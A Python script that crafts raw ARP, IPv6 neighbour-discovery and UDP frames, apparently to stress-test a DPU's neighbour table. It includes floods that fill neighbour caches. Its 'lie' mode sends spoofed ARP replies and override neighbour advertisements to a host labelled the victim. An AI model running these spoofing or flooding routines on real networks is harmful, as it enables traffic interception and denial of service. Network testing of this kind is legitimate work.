#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Frames that would fill a table of neighbours, with valid checksums.

neighbours.py DEV GATEWAY-MAC ask N        ARP and NS for the DPU's address, from N random sources each
neighbours.py DEV GATEWAY-MAC to N         UDP from a peer to N random addresses of the host, each family
neighbours.py DEV GATEWAY-MAC lost N       NS to N unused unicast addresses
neighbours.py DEV VICTIM-MAC lie N A4 A6 MAC VICTIM6
                                           N times: A4 and A6 are at MAC (ARP reply; NA, solicited and override)
"""
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    data += b"\0" * (len(data) & 1)
    n = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def a6(text):
    return ipaddress.IPv6Address(text).packed


def ip6(src, dst, proto, body, hop):
    pseudo = src + dst + struct.pack("!IxxxB", len(body), proto)
    at = 2 if proto == 58 else 6
    body = body[:at] + struct.pack("!H", checksum(pseudo + body)) + body[at + 2:]
    return struct.pack("!IHBB", 6 << 28, len(body), proto, hop) + src + dst + body


def ip4(src, dst, body):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, 17, 0) + src + dst
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def solicit(src, dst, target, mac):
    return ip6(src, dst, 58, struct.pack("!BBHI", 135, 0, 0, 0) + target + b"\1\1" + mac, 255)


def lie(s, victim, n, a4, a6_, mac, victim6):
    mac = bytes.fromhex(mac.replace(":", ""))
    a4 = ipaddress.IPv4Address(a4).packed
    for _ in range(n):
        s.send(victim + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) + mac + a4 + victim + a4)
        s.send(victim + mac + b"\x86\xdd" +
               ip6(a6(a6_), a6(victim6), 58, struct.pack("!BBHI", 136, 0, 0, 6 << 28) + a6(a6_) + b"\2\1" + mac, 255))
        time.sleep(0.1)


def main():
    dev, gateway, what, n = sys.argv[1:5]
    gateway = bytes.fromhex(gateway.replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    own = s.getsockname()[4]
    if what == "lie":
        return lie(s, gateway, int(n), *sys.argv[5:9])
    rnd = random.Random(1)
    udp = struct.pack("!HHHH", 9, 9, 28, 0) + b"x" * 20
    for i in range(int(n)):
        host4 = bytes([10, 7, 10 + (i >> 8), i & 255])
        host6 = a6("fd00:7::") [:8] + rnd.randbytes(8)
        if what == "ask":
            s.send(b"\xff" * 6 + own + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + own +
                   host4 + bytes(6) + bytes([10, 7, 0, 1]))
            s.send(b"\x33\x33\xff\0\0\1" + own + b"\x86\xdd" +
                   solicit(host6, a6("ff02::1:ff00:1"), a6("fd00:7::1"), own))
        elif what == "to":
            s.send(gateway + own + b"\x08\0" + ip4(bytes([10, 101, 0, 9]), host4, udp))
            s.send(gateway + own + b"\x86\xdd" + ip6(a6("fd00:101::9"), host6, 17, udp, 64))
        else:
            lost = a6("fd00:dead::")[:8] + rnd.randbytes(8)
            s.send(gateway + own + b"\x86\xdd" + solicit(a6("fd00:7::2"), lost, lost, own))
        time.sleep(0.002)


main()
